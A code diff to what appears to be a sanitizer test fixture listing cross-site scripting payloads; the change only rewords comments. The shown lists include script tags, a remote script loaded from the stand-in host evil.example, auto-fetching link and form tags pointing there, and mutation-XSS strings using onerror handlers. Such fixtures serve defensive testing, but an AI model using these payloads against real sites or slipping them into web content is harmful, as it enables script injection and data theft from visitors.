@@ -1,11 +1,11 @@
 /**
- * Bodies that want to run a script, fetch something, lead somewhere else or break out of the page.
- * What a browser would ask for stands under `evil`, what it would run calls `alert`.
+ * Bodies that try to run a script, load something, redirect or break out of the page. Requests go
+ * to `evil`, and scripts call `alert`.
  */
 
 export const evil = "https://evil.example";
 
-/** Scripts and what runs them. */
+/** Scripts and ways to run them. */
 const scripts = [
   "<script>alert(1)</script>",
   `<script src="${evil}/s.js"></script>`,
@@ -68,7 +68,7 @@ const scripts = [
   `<img src="javascript:alert(1)">`,
 ];
 
-/** What is fetched without anybody's doing. */
+/** Requests without any action of the visitor. */
 const fetches = [
   `<link rel=stylesheet href=${evil}/a.css>`,
   `<link rel=preload as=image href=${evil}/a.png>`,
@@ -111,7 +111,7 @@ const fetches = [
   `<form action=${evil}/><button autofocus>x</button></form>`,
 ];
 
-/** What one reader takes for text and the next for markup. */
+/** Parsers disagree whether these are text or markup. */
 const mutations = [
   "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
